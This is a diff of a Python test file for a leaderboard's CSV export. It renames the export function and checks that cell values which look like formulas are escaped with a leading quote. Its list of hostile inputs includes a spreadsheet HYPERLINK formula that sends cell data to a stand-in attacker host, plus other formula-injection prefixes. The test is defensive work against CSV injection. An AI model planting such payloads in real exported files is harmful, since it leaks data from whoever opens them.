@@ -10,9 +10,9 @@ from datetime import UTC, datetime
 import pytest
 
 from arena.battles import Battle, parse, to_csv
+from services.leaderboard import answers_csv
 from storage.comparisons import AnswerRow
 from storage.spreadsheet import guard, unguard
-from views.leaderboard import _csv
 
 HOSTILE = ["=HYPERLINK(\"http://attacker.test/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]
 
@@ -43,6 +43,6 @@ def test_the_leaderboard_csv_guards_outside_text() -> None:
     row = AnswerRow(comparison_id="c1", round=0, prompt="=1+1", asked_at=datetime(2026, 12, 5, tzinfo=UTC),
                     column=0, provider="huggingface", model="@evil", status="complete", ttft_ms=-1, total_ms=5,
                     chars=3, output_tokens=None, verdict=None, won=False, options={}, answer="-answer")
-    [written] = list(csv.DictReader(io.StringIO(_csv([row]))))
+    [written] = list(csv.DictReader(io.StringIO(answers_csv([row]))))
     assert (written["prompt"], written["model"], written["answer"]) == ("'=1+1", "'@evil", "'-answer")
     assert written["ttft_ms"] == "-1"  # a number, not a formula
